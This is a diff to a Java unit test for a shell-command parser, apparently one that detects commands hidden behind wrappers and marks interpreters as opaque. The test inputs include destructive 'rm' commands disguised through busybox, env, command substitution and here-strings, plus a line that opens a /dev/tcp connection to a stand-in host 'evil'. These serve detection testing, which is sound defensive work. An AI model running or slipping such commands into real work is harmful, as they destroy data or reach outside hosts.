@@ -65,6 +65,7 @@ class ShellReaderTest {
         "echo a;#rm x ¦ echo",
         "echo '$(rm x)' \"\\$(rm x)\" \\`rm ¦ echo",
         "busybox rm x ¦ busybox rm",
+        "command -v rm ¦ command",
         "/usr/bin/env rm x ¦ /usr/bin/env rm",
         "bash <<< 'rm x' ¦ bash rm",
       })
@@ -119,6 +120,7 @@ class ShellReaderTest {
         "declare -i x=y",
         "echo \"$\\\n(rm)\"",
         "cd \"$x\"",
+        ": ${PATH:=x}",
         "cd -",
         "echo x > $f",
         "exec 3<>/dev/tcp/evil/80",
@@ -180,8 +182,8 @@ class ShellReaderTest {
 
   @Test
   void interpretersAreMarkedAsOpaque() {
-    assertThat(ShellReader.read("python3 -c 'x'; perl x.pl; ./run.sh").opaque())
-        .containsExactlyInAnyOrder("python3", "perl", "./run.sh");
+    assertThat(ShellReader.read("python3 -c 'x'; perl x.pl; ./run.sh; ./nice ls").opaque())
+        .containsExactlyInAnyOrder("python3", "perl", "./run.sh", "./nice");
   }
 
   @Test
